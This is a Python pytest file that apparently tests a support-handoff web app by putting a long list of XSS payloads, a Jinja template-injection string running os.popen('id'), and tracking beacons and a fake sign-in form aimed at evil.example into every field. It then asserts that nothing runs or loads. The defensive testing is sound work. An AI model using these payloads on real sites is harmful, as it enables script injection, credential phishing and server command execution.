"""Hostile text in every field of a handoff, before the agent's and the support ops' browser: nothing happens."""

from __future__ import annotations

from itertools import cycle
from typing import Any

import pytest

from browser_rig import Watched
from page_rig import InThread

SAYS = "alert(document.domain)"
PAYLOADS = (
    f"<script>{SAYS}</script>",
    f"</title><script>{SAYS}</script>",
    f"</textarea><script>{SAYS}</script>",
    f"<!--<img src=--><img src=x onerror={SAYS}//-->",
    f"<img src=x onerror={SAYS}>",
    f"<svg onload={SAYS}>",
    f"<svg><script>{SAYS}</script></svg>",
    f"<svg><animate onbegin={SAYS} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{SAYS}'><text x=20 y=20>here</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={SAYS}&gt;'>",
    f"<math><maction actiontype='statusline#http://x' xlink:href='javascript:{SAYS}'>here</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={SAYS}>",
    f"<noscript><p title='</noscript><img src=x onerror={SAYS}>'>",
    f"<iframe srcdoc='<script>{SAYS}</script>'></iframe>",
    f"<iframe src='javascript:{SAYS}'></iframe>",
    f"<object data='javascript:{SAYS}'></object>",
    f"<embed src='javascript:{SAYS}'>",
    f"<a href='javascript:{SAYS}' autofocus tabindex=1 onfocus={SAYS}>here</a>",
    f"<input autofocus onfocus={SAYS}>",
    f"<details open ontoggle={SAYS}>",
    f"<video><source onerror={SAYS}></video>",
    f"<body onload={SAYS}>",
    f"<base href='https://evil.example/'><script src=a.js></script><!-- {SAYS}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css'; *{background:url(https://evil.example/b)}</style>",
    "<div style='background:url(https://evil.example/c)'>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/p.gif 1x'>",
    "<form action=https://evil.example/><button autofocus>Sign in again</button></form>",
    f'" onmouseover={SAYS} x="',
    f"' onmouseover={SAYS} x='",
    f"`-{SAYS}-`",
    f"javascript:{SAYS}",
    f"data:text/html,<script>{SAYS}</script>",
    f"&lt;script&gt;{SAYS}&lt;/script&gt;",
    f"&#60;script&#62;{SAYS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{SAYS}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{SAYS}\uff1c/script\uff1e",
    f"\u202e<script>{SAYS}</script>\u202c",
    f"<scr\u200bipt>{SAYS}</scr\u200bipt>",
    f"<\x00script>{SAYS}</script>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }} {% include 'base.html' %} {{ 7*7 }}",
    '[turn 1](javascript:alert(1)) [turn 1" onclick=alert(1)]',
    "2026-03-02 10:42 UTC<img src=x onerror=alert(1)>",
)  # fmt: skip


def hostile() -> dict[str, Any]:
    """Every payload as a turn, and one after another in every other field."""
    payloads = cycle(PAYLOADS)

    def one() -> str:
        return next(payloads)

    return {
        "conversation": {
            "id": one()[:200],
            "channel": one()[:200],
            "language": "en",
            "turns": [
                {
                    "role": ("customer", "ai")[n % 2],
                    "text": text,
                    "intent": one(),
                    "page": one(),
                    "confidence": 0.1,
                }
                for n, text in enumerate(PAYLOADS)
            ],
        },
        "customer": {
            "name": one(),
            "email": f"{one()[:60]}@example.com",
            "phone": one()[:50],
            "external_ids": {one()[:100]: one()[:100]},
            "identity": "verified",
        },
        "reason": {"code": "other", "text": one()},
        "attempts": [{"action": text, "result": one()} for text in PAYLOADS],
        "summary": " ".join(PAYLOADS),
        "pages": [{"url": text, "title": one()} for text in PAYLOADS],
        "technical": {"errors": list(PAYLOADS), "browser": one(), "os": one(), "attempted_action": one()},
    }


@pytest.fixture(scope="module")
def link(pages: InThread) -> str:
    return pages.handed_over(hostile())


def test_x01_x02_x03_nothing_runs_loads_or_is_reported_on_the_handoffs_page(
    window: Watched, link: str
) -> None:
    window.page.goto(link)
    window.page.wait_for_load_state("networkidle")
    for summary in window.page.locator("summary").all():
        summary.click()
    window.page.keyboard.press("Tab")
    window.page.mouse.wheel(0, 20_000)
    window.page.wait_for_timeout(300)

    assert window.troubles == []
    assert window.page.title().startswith("Handoff")
    assert (
        window.page.locator("script, style, img, svg, iframe, object, embed, form, meta[http-equiv]").count()
        == 1
    )
    assert window.page.locator(".turn").count() == len(PAYLOADS)


def test_x01_x02_x03_nothing_runs_loads_or_is_reported_in_the_preview(
    window: Watched, pages: InThread, link: str
) -> None:
    handoff_id = link.partition("?")[0].rpartition("/")[2]
    window.signs_in("olga")
    before = len(window.troubles)

    for path in ("", "/edit"):
        window.page.goto(f"{pages.url}/mappings/zendesk{path}?handoff={handoff_id}")
        window.page.wait_for_load_state("networkidle")
        assert window.page.locator("#handoff").input_value() == handoff_id
        assert (
            window.page.locator(".note img, .note svg, .note script, .note [style], .note [onclick]").count()
            == 0
        )

    assert window.troubles[before:] == []


def test_x01_hostile_text_in_a_mapping_file_is_inert(window: Watched, pages: InThread) -> None:
    mapping = pages.served.mapping
    before = mapping.read_text()
    try:
        mapping.write_text(before + "".join(f"# {text}\n".replace("\x00", "") for text in PAYLOADS))
        window.signs_in("olga")
        for path in ("", "/edit", "/versions"):
            window.page.goto(f"{pages.url}/mappings/zendesk{path}")
            window.page.wait_for_load_state("networkidle")
    finally:
        mapping.write_text(before)

    assert window.troubles == []
